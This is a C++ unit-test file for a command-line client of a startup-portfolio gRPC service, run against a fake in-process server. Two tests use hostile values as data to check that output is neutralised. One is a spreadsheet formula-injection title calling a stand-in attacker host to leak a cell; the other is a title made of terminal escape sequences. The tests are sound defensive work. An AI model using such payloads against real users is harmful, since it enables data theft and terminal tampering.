// Commands against a server in this process that answers what a test tells it, and remembers what it was asked.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "clients/pep/kit/proto_values.h"
#include "google/rpc/error_details.pb.h"
#include "google/rpc/status.pb.h"
#include "pepiniere/portfolio/v1/portfolio_service.grpc.pb.h"
#include "tests/unit/pep/pep_fixture.h"

namespace pepiniere::pep {
namespace {

using namespace portfolio::v1;  // NOLINT: the service's messages
using grpc::ServerContext;
using testing::AnyOf;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::Not;
using testing::StartsWith;
using testing::UnorderedElementsAre;

class FakePortfolio : public PortfolioService::Service {
 public:
  grpc::Status ListProjects(ServerContext*, const ListProjectsRequest* request, ListProjectsResponse* reply) override {
    list = *request;
    const int from = request->page_token().empty() ? 0 : std::stoi(request->page_token());
    const int size = request->page_size() > 0 ? request->page_size() : 50;
    for (int i = from; i < from + size && i < projects; ++i) {
      Project* project = reply->add_projects();
      project->set_name("projects/p" + std::to_string(i));
      project->set_title(title.empty() ? "Projet n° " + std::to_string(i) : title);
      project->mutable_budget()->mutable_allocated()->set_units(budget);
      project->set_kind(PROJECT_KIND_STATE_STARTUP);
      project->set_phase(PHASE_CONSTRUCTION);
      project->set_primary_incubator("incubators/sud");
    }
    if (from + size < projects) reply->set_next_page_token(std::to_string(from + size));
    return grpc::Status::OK;
  }
  grpc::Status ListPhaseRecords(ServerContext*, const ListPhaseRecordsRequest* request,
                                ListPhaseRecordsResponse* reply) override {
    PhaseRecord* line = reply->add_phase_records();
    line->set_name(request->parent() + "/phaseRecords/1");
    line->set_phase(PHASE_CONSTRUCTION);
    ToProto(*base::Date::Parse("2025-03-01"), line->mutable_effective_date());
    return grpc::Status::OK;
  }
  grpc::Status ListProjectEvents(ServerContext*, const ListProjectEventsRequest*, ListProjectEventsResponse*) override {
    return grpc::Status::OK;
  }
  grpc::Status ListOrganisations(ServerContext*, const ListOrganisationsRequest*, ListOrganisationsResponse*) override {
    return grpc::Status::OK;
  }
  grpc::Status ListIncubators(ServerContext*, const ListIncubatorsRequest* request,
                              ListIncubatorsResponse* reply) override {
    incubators = *request;
    Incubator* incubator = reply->add_incubators();
    incubator->set_name("incubators/sud");
    incubator->set_title("La pépinière du Sud");
    return grpc::Status::OK;
  }
  grpc::Status GetIncubator(ServerContext*, const GetIncubatorRequest* request, Incubator* reply) override {
    reply->set_name(request->name());
    const bool is_there = request->name() == "incubators/sud" || request->name() == "incubators/nord";
    return is_there ? grpc::Status::OK : grpc::Status(grpc::StatusCode::NOT_FOUND, "does not exist");
  }
  // By a word of what they say of themselves.
  grpc::Status SearchPortfolio(ServerContext*, const SearchPortfolioRequest*, SearchPortfolioResponse* reply) override {
    auto* hit = reply->add_hits();
    hit->set_name("incubators/stop-punaises");
    hit->set_title("Stop Punaises");
    hit = reply->add_hits();
    hit->set_name("incubators/pepiniere-du-sud");
    hit->set_title("La pépinière du Sud");
    return grpc::Status::OK;
  }
  grpc::Status ListTeams(ServerContext*, const ListTeamsRequest*, ListTeamsResponse*) override {
    return grpc::Status::OK;
  }
  grpc::Status ListPhaseWords(ServerContext*, const ListPhaseWordsRequest*, ListPhaseWordsResponse*) override {
    return grpc::Status::OK;
  }
  grpc::Status UpdateProject(ServerContext*, const UpdateProjectRequest* request, Project* reply) override {
    update = *request;
    *reply = request->project();
    return grpc::Status::OK;
  }
  grpc::Status CorrectPhase(ServerContext*, const CorrectPhaseRequest* request, Project*) override {
    correct = *request;
    return grpc::Status::OK;
  }
  grpc::Status AdvancePhase(ServerContext* context, const AdvancePhaseRequest* request, Project*) override {
    advance = *request;
    const auto found = context->client_metadata().find("authorization");
    authorization =
        found == context->client_metadata().end() ? "" : std::string(found->second.data(), found->second.size());
    google::rpc::PreconditionFailure failure;
    failure.add_violations()->set_type("GATE");
    failure.mutable_violations(0)->set_subject(request->name() + "#SPONSOR");
    google::rpc::Status status;
    status.set_code(grpc::FAILED_PRECONDITION);
    status.add_details()->PackFrom(failure);
    return {grpc::FAILED_PRECONDITION, "1 requirement is not met", status.SerializeAsString()};
  }
  grpc::Status GetPortfolioSummary(ServerContext*, const GetPortfolioSummaryRequest* request,
                                   PortfolioSummary* reply) override {
    *reply->mutable_as_of() = request->as_of();
    PortfolioSummary::Group* group = reply->add_groups();
    (*group->mutable_keys())["phase"] = "CONSTRUCTION";
    group->set_count(1109);
    reply->set_total_count(1109);
    return grpc::Status::OK;
  }
  grpc::Status ImportProjects(ServerContext*, grpc::ServerReader<ImportProjectsRequest>* reader,
                              ImportProjectsResponse* reply) override {
    for (ImportProjectsRequest batch; reader->Read(&batch);) {
      batches.push_back(batch.items_size());
      sources.push_back(batch.source());
    }
    ImportFinding* finding = reply->mutable_report()->add_findings();
    finding->set_code("MISSING_REFERENCE");
    ImportCount* count = reply->mutable_report()->add_counts();
    count->set_resource_type("projects");
    count->set_created(150);
    return grpc::Status::OK;
  }

  int projects = 3;
  std::string title;
  std::int64_t budget = 0;
  ListProjectsRequest list;
  ListIncubatorsRequest incubators;
  UpdateProjectRequest update;
  CorrectPhaseRequest correct;
  AdvancePhaseRequest advance;
  std::string authorization;
  std::vector<int> batches;
  std::vector<std::string> sources;
};

class CommandsTest : public PepTest {
 protected:
  CommandsTest() { Serve({&service_}); }
  ~CommandsTest() override { Stop(); }

  FakePortfolio service_;
};

TEST_F(CommandsTest, JsonListsOneProjectALine) {
  service_.projects = 1200;
  EXPECT_EQ(Pep({"--output", "json", "projects", "list", "--all"}), ExitCode::kOk);
  EXPECT_EQ(Lines(), 1200);
  EXPECT_THAT(out_.str(), HasSubstr("\n{\"name\":\"projects/p1199\","));
}

TEST_F(CommandsTest, OnePageSaysHowToGetTheNext) {
  service_.projects = 120;
  EXPECT_EQ(Pep({"projects", "list"}), ExitCode::kOk);
  EXPECT_EQ(Lines(), 51) << "a heading and a page";
  EXPECT_THAT(errors_.str(), HasSubstr("--all"));
  EXPECT_THAT(errors_.str(), HasSubstr("--page-token 50"));
  EXPECT_THAT(service_.list.read_mask().paths(), Not(testing::Contains("description")));
  EXPECT_EQ(Pep({"projects", "list", "--limit", "70", "-o", "csv"}), ExitCode::kOk);
  EXPECT_EQ(Lines(), 71);
  EXPECT_EQ(errors_.str(), "") << "who asks for so many got them";
}

TEST_F(CommandsTest, ListsWhatWasAsked) {
  EXPECT_EQ(Pep({"projects", "list", "--phase", "construction", "--incubator", "sud", "--as-of", "2026-08-20",
                 "--known-at", "2026-08-21T00:00:00Z", "--order-by", "title desc", "--show-deleted"}),
            ExitCode::kOk);
  EXPECT_EQ(service_.list.filter(), "phase = \"CONSTRUCTION\" AND incubator = \"incubators/sud\"");
  EXPECT_EQ(Iso(service_.list.as_of()), "2026-08-20");
  EXPECT_EQ(Iso(service_.list.known_at()), "2026-08-21T00:00:00Z");
  EXPECT_EQ(service_.list.order_by(), "title desc");
  EXPECT_TRUE(service_.list.show_deleted());
}

TEST_F(CommandsTest, SuggestsWhatLooksLikeTheNameAlone) {
  EXPECT_EQ(Pep({"projects", "list", "--incubator", "nope"}), ExitCode::kNotFound);
  EXPECT_THAT(errors_.str(), HasSubstr("no such incubator: nope"));
  EXPECT_THAT(errors_.str(), Not(HasSubstr("did you mean")))
      << "found by its description, which nobody types for a name";
  EXPECT_EQ(Pep({"projects", "list", "--incubator", "pepinieres-du-sud"}), ExitCode::kNotFound);
  EXPECT_THAT(errors_.str(), HasSubstr("did you mean pepiniere-du-sud?"));
}

TEST_F(CommandsTest, ListsADirectory) {
  EXPECT_EQ(Pep({"incubators", "list", "--filter", "title = \"x\"", "--show-deleted"}), ExitCode::kOk);
  EXPECT_EQ(service_.incubators.filter(), "title = \"x\"");
  EXPECT_TRUE(service_.incubators.show_deleted());
  EXPECT_EQ(out_.str(),
            "Incubator  Title                Owner  Contact\n"
            "sud        La pépinière du Sud\n");
  EXPECT_EQ(Pep({"incubators", "list", "-o", "csv"}), ExitCode::kOk);
  EXPECT_EQ(out_.str(),
            "name,title,summary,owner,contact,website_uri,repository_uri,address,create_time,update_time,delete_time,"
            "hidden\r\n"
            "incubators/sud,La pépinière du Sud,,,,,,,,,,false\r\n");
  EXPECT_EQ(Pep({"incubators", "create", "x"}), ExitCode::kUsage) << "what has no method has no command";
}

TEST_F(CommandsTest, UpdateSendsTheFieldsGivenAndNoOther) {
  EXPECT_EQ(Pep({"projects", "update", "carnet-vert", "--title", "Carnet", "--sponsor", "forets", "--sponsor", "lacs",
                 "--contact", "", "--etag", "e1"}),
            ExitCode::kOk);
  EXPECT_EQ(service_.update.project().name(), "projects/carnet-vert");
  EXPECT_EQ(service_.update.project().etag(), "e1");
  EXPECT_THAT(service_.update.update_mask().paths(), UnorderedElementsAre("title", "sponsors", "contact"));
  EXPECT_THAT(service_.update.project().sponsors(), ElementsAre("organisations/forets", "organisations/lacs"));
  EXPECT_NE(service_.update.request_id(), "") << "safe to repeat";
}

TEST_F(CommandsTest, ARefusalEndsIn4WithWhatIsMissing) {
  variables_["PEP_TOKEN"] = "a.b.c";
  EXPECT_EQ(Pep({"projects", "advance", "carnet-vert", "accélération", "--date", "2026-08-20", "--dry-run"}),
            ExitCode::kRefused);
  EXPECT_THAT(errors_.str(), HasSubstr("a sponsor  →  pep projects update carnet-vert --sponsor ORGANISATION"));
  EXPECT_EQ(service_.advance.phase(), PHASE_SCALING);
  EXPECT_EQ(Iso(service_.advance.effective_date()), "2026-08-20");
  EXPECT_TRUE(service_.advance.validate_only());
  EXPECT_EQ(service_.authorization, "Bearer a.b.c");
}

TEST_F(CommandsTest, CorrectsALineOfTheLedger) {
  EXPECT_EQ(Pep({"projects", "correct", "carnet-vert", "2", "--date", "2025-04-01", "--reason", "wrong month"}),
            ExitCode::kOk);
  EXPECT_EQ(service_.correct.name(), "projects/carnet-vert/phaseRecords/2");
  EXPECT_EQ(Iso(service_.correct.phase_record().effective_date()), "2025-04-01");
  EXPECT_THAT(service_.correct.update_mask().paths(), ElementsAre("effective_date"));
  EXPECT_EQ(Pep({"projects", "correct", "carnet-vert", "2", "--no-end", "--reason", "it went on"}), ExitCode::kOk);
  EXPECT_THAT(service_.correct.update_mask().paths(), ElementsAre("end_date"));
  EXPECT_EQ(Pep({"projects", "correct", "carnet-vert", "2", "--withdraw", "--reason", "never happened"}),
            ExitCode::kOk);
  EXPECT_TRUE(service_.correct.withdraw());
}

TEST_F(CommandsTest, SummaryForProgramsAndForPeople) {
  const std::vector<std::string> ask = {"portfolio", "summary", "--as-of", "2026-08-20", "--group-by", "phase"};
  std::vector<std::string> json = {"--output", "json"};
  json.insert(json.end(), ask.begin(), ask.end());
  EXPECT_EQ(Pep(json), ExitCode::kOk);
  EXPECT_EQ(out_.str(),
            "{\"asOf\":{\"year\":2026,\"month\":8,\"day\":20},\"groups\":[{\"keys\":{\"phase\":\"CONSTRUCTION\"},"
            "\"count\":\"1109\"}],\"totalCount\":\"1109\"}\n");
  variables_["LANG"] = "fr_FR.UTF-8";
  EXPECT_EQ(Pep(ask), ExitCode::kOk);
  EXPECT_EQ(out_.str(),
            "1\u202f109 projets au 20 août 2026\n\n"
            "Phase         Projets\n"
            "Construction    1\u202f109\n");
}

TEST_F(CommandsTest, ExportsWhatImportReadsAndBatchesIt) {
  service_.projects = 150;
  EXPECT_EQ(Pep({"export", "betagouv", folder_ + "/out"}), ExitCode::kOk) << errors_.str();
  EXPECT_THAT(errors_.str(), HasSubstr("Not logged in"));
  EXPECT_TRUE(std::filesystem::exists(folder_ + "/out/content/_startups/p149.md"));
  EXPECT_EQ(Pep({"import", "betagouv", folder_ + "/out", "--report", folder_ + "/report.jsonl"}), ExitCode::kOk)
      << errors_.str();
  EXPECT_THAT(service_.batches, ElementsAre(64, 64, 23));
  EXPECT_THAT(service_.sources, ElementsAre("betagouv", "", ""));
  EXPECT_THAT(out_.str(), HasSubstr("MISSING_REFERENCE  1")) << "the server's oddities are there";
  std::ifstream report(folder_ + "/report.jsonl");
  std::string last;
  for (std::string line; std::getline(report, line);) last = line;
  EXPECT_EQ(last, "{\"code\":\"MISSING_REFERENCE\"}");
}

TEST_F(CommandsTest, ExportsCsv) {
  EXPECT_EQ(Pep({"export", "csv", "-"}), ExitCode::kOk);
  EXPECT_THAT(out_.str(), HasSubstr("projects/p2,Projet n° 2,STATE_STARTUP,CONSTRUCTION,"));
  EXPECT_EQ(Pep({"export", "csv", folder_ + "/nowhere/projects.csv"}), ExitCode::kNotFound);
}

TEST_F(CommandsTest, ASpreadsheetComputesNothingOfWhatIsText) {
  service_.title = "=HYPERLINK(\"https://attaque.example/?\"&A1;\"Ici\")";
  service_.budget = -1500;
  for (const std::vector<std::string>& command : {std::vector<std::string>{"export", "csv", "-"},
                                                  {"-o", "csv", "projects", "list"},
                                                  {"-o", "csv", "projects", "list", "--all"}}) {
    EXPECT_EQ(Pep(command), ExitCode::kOk);
    EXPECT_THAT(
        out_.str(),
        HasSubstr("projects/p0,\"'=HYPERLINK(\"\"https://attaque.example/?\"\"&A1;\"\"Ici\"\")\",STATE_STARTUP,"));
    EXPECT_THAT(out_.str(), HasSubstr(",-1500.00,")) << "a number is a number";
  }
}

TEST_F(CommandsTest, ASpreadsheetSetToFrenchHasItsShape) {
  service_.title = "Berges ; crues";
  service_.budget = 1500;
  for (const std::vector<std::string>& command :
       {std::vector<std::string>{"export", "csv", "-", "--spreadsheet"}, {"--spreadsheet", "projects", "list"}}) {
    EXPECT_EQ(Pep(command), ExitCode::kOk);
    EXPECT_THAT(out_.str(), StartsWith("\ufeffname;title;kind;"));
    EXPECT_THAT(out_.str(), HasSubstr("projects/p0;\"Berges ; crues\";STATE_STARTUP;"));
    EXPECT_THAT(out_.str(), HasSubstr(";1500,00;"));
  }
}

TEST_F(CommandsTest, ATerminalObeysNothingOfWhatIsText) {
  service_.title = "a\033[31mb\033]0;x\a\u009b2J";
  EXPECT_EQ(Pep({"export", "csv", "-"}), ExitCode::kOk);
  EXPECT_THAT(out_.str(), HasSubstr(service_.title)) << "a file has it byte for byte";
  out_is_tty_ = true;
  for (const std::vector<std::string>& command : {std::vector<std::string>{"export", "csv", "-"},
                                                  {"-o", "csv", "projects", "list"},
                                                  {"projects", "list"},
                                                  {"-o", "json", "projects", "list"}}) {
    EXPECT_EQ(Pep(command), ExitCode::kOk);
    EXPECT_THAT(out_.str(), Not(AnyOf(HasSubstr("\033"), HasSubstr("\a"), HasSubstr("\u009b")))) << command[0];
  }
}

}  // namespace
}  // namespace pepiniere::pep
